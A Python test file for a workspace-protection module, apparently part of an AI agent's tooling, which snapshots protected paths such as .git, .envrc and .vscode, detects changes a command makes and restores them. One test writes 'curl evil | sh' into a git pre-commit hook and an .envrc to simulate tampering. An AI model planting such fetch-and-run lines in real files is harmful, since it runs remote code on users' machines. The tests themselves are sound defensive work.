"""protected_snapshot.py: which protected paths a workspace holds, what a command changed
among them, and putting them back without following a link out of the workspace."""

from __future__ import annotations

import os
from pathlib import Path

from helpers.calls import Scripted

from rivulet.core.tools import protected_snapshot as ps
from rivulet.core.tools.approval import ApprovalPolicy, Decision
from rivulet.core.tools.protected_guard import Guard, settle
from rivulet.core.tools.protected_undo import undo


def _write(path: Path, text: str = "x\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def test_it_finds_protected_paths_at_any_depth_and_any_virtualenv(tmp_path):
    _write(tmp_path / ".git" / "config", "[core]\n")
    _write(tmp_path / "env" / "pyvenv.cfg")
    _write(tmp_path / "sub" / "deeper" / ".envrc")
    _write(tmp_path / ".github" / "workflows" / "ci.yml")
    _write(tmp_path / ".github" / "ISSUE_TEMPLATE.md")
    _write(tmp_path / "node_modules" / "x" / ".envrc")  # pruned: a package manager's tree
    _write(tmp_path / "src" / "main.py")
    snap = ps.take(tmp_path)
    assert set(snap.protected) == {".git", "env/pyvenv.cfg", "sub/deeper/.envrc", ".github/workflows"}
    assert [p.relative_to(tmp_path).as_posix() for p in snap.read_only()] == [
        ".git", ".github/workflows", "env", "sub/deeper/.envrc"]
    assert snap.files[".git/config"].data == b"[core]\n"


def test_what_a_command_creates_is_found_and_removed(tmp_path):
    _write(tmp_path / "src" / "main.py")
    before = ps.take(tmp_path)
    _write(tmp_path / ".vscode" / "tasks.json", "{}")
    _write(tmp_path / "src" / "sitecustomize.py")
    (tmp_path / ".git").mkdir()
    changes = ps.compare(before, ps.take(tmp_path))
    assert {(c.path, c.what) for c in changes} == {(".vscode", "created"), ("src/sitecustomize.py", "created"),
                                                   (".git", "created")}
    lines = undo(before, changes)
    assert sorted(lines) == [".git: removed", ".vscode: removed", "src/sitecustomize.py: removed"]
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["main.py", "src"]


def test_a_new_virtualenv_goes_whole_and_an_old_folder_keeps_its_files(tmp_path):
    _write(tmp_path / "tools" / "run.py", "keep me\n")
    before = ps.take(tmp_path)
    _write(tmp_path / "newenv" / "pyvenv.cfg")
    _write(tmp_path / "newenv" / "bin" / "python")
    _write(tmp_path / "tools" / "pyvenv.cfg")  # an existing folder turned into a "virtualenv"
    changes = ps.compare(before, ps.take(tmp_path))
    assert {c.path for c in changes} == {"newenv/pyvenv.cfg", "tools/pyvenv.cfg"}
    undo(before, changes)
    assert not (tmp_path / "newenv").exists()
    assert not (tmp_path / "tools" / "pyvenv.cfg").exists() and (tmp_path / "tools" / "run.py").read_text() == \
        "keep me\n"


def test_a_change_through_a_hard_link_is_put_back(tmp_path):
    envrc = _write(tmp_path / ".envrc", "export A=1\n")
    os.link(envrc, tmp_path / "notes.txt")  # planted earlier: a read-only bind of .envrc does not cover it
    hooks = _write(tmp_path / ".git" / "hooks" / "pre-commit", "#!/bin/sh\n")
    before = ps.take(tmp_path)
    (tmp_path / "notes.txt").write_text("curl evil | sh\n")
    hooks.write_text("#!/bin/sh\ncurl evil | sh\n")
    changes = ps.compare(before, ps.take(tmp_path))
    assert {(c.path, c.what) for c in changes} == {(".envrc", "changed"), (".git/hooks/pre-commit", "changed")}
    assert sorted(undo(before, changes)) == [".envrc: put back as it was", ".git/hooks/pre-commit: put back as it was"]
    assert envrc.read_text() == "export A=1\n" and hooks.read_text() == "#!/bin/sh\n"


def test_undo_removes_a_planted_link_and_never_follows_it(tmp_path):
    outside = tmp_path / "outside"
    _write(outside / "precious.txt", "mine\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    before = ps.take(ws)
    (ws / ".vscode").symlink_to(outside)
    changes = ps.compare(before, ps.take(ws))
    assert undo(before, changes) == [".vscode: removed"]
    assert not (ws / ".vscode").is_symlink() and (outside / "precious.txt").read_text() == "mine\n"


def test_below_the_levels_walked_nothing_is_compared_nor_removed(tmp_path, monkeypatch):
    monkeypatch.setattr(ps, "MAX_DEPTH", 2)
    _write(tmp_path / "a" / "b" / "c" / ".git" / "config")  # the user's nested repository, deeper than the walk
    before = ps.take(tmp_path)
    assert ".git" not in str(before.protected) and before.covered == 2
    _write(tmp_path / "a" / ".envrc")  # within the walk: found
    changes = ps.compare(before, ps.take(tmp_path))
    assert [c.path for c in changes] == ["a/.envrc"]


async def test_a_fifo_left_in_a_protected_folder_does_not_hang_the_question(tmp_path):
    guard = Guard(tmp_path)
    before = guard.begin("the command", ps.DEFAULT_PROTECTED)
    (tmp_path / ".idea").mkdir()
    os.mkfifo(tmp_path / ".idea" / "pipe")
    _write(tmp_path / ".idea" / "workspace.xml", "<project/>\n")
    approver = Scripted(Decision.NO)
    call = {"type": "function_call", "call_id": "c1", "name": "shell", "arguments": "{}"}
    note = await settle(guard, before, call, ApprovalPolicy("auto", approver), None,
                        {"type": "function_call_output", "call_id": "c1", "output": ""})
    assert len(approver.asked) == 1 and "+<project/>" in approver.asked[0].detail
    assert ".idea: removed" in note and not (tmp_path / ".idea").exists()


def test_a_file_the_budget_left_unread_is_no_change(tmp_path, monkeypatch):
    """Issue 35: the second walk kept no bytes (its budget ran out, or it did not reach the
    file): the same file was reported changed, and "put back"."""
    _write(tmp_path / ".envrc", "export A=1\n")
    before = ps.take(tmp_path)
    monkeypatch.setattr(ps, "KEEP_TOTAL", 0)
    assert ps.compare(before, ps.take(tmp_path)) == []
    assert undo(before, [ps.Change(".envrc", "changed", "x")]) == []  # nothing to put back, and none said


def test_a_root_made_a_git_directory_loses_only_what_was_added(tmp_path):
    _write(tmp_path / "config", "mine\n")  # the user's, before
    before = ps.take(tmp_path)
    _write(tmp_path / "HEAD", "ref: refs/heads/main\n")
    (tmp_path / "objects").mkdir()
    (tmp_path / "refs").mkdir()
    changes = ps.compare(before, ps.take(tmp_path))
    assert sorted(c.path for c in changes) == ["HEAD", "objects", "refs"]
    assert sorted(undo(before, changes)) == ["HEAD: removed", "objects: removed", "refs: removed"]
    assert [p.name for p in tmp_path.iterdir()] == ["config"]


def test_a_walk_cut_short_keeps_what_the_session_found(tmp_path, monkeypatch):
    _write(tmp_path / "pkg" / ".vscode" / "tasks.json", "{}")
    memory = ps.Memory()
    assert "pkg/.vscode" in ps.take(tmp_path, memory=memory).protected
    for i in range(5):
        _write(tmp_path / f"n{i}")
    monkeypatch.setattr(ps, "MAX_ENTRIES", 4)
    assert "pkg/.vscode" not in ps.take(tmp_path).protected  # what a walk alone sees now
    snap = ps.take(tmp_path, memory=memory)
    assert snap.cut == ["pkg"] and "pkg/.vscode" in snap.protected
    assert [p.relative_to(tmp_path).as_posix() for p in snap.read_only()] == ["pkg/.vscode"]
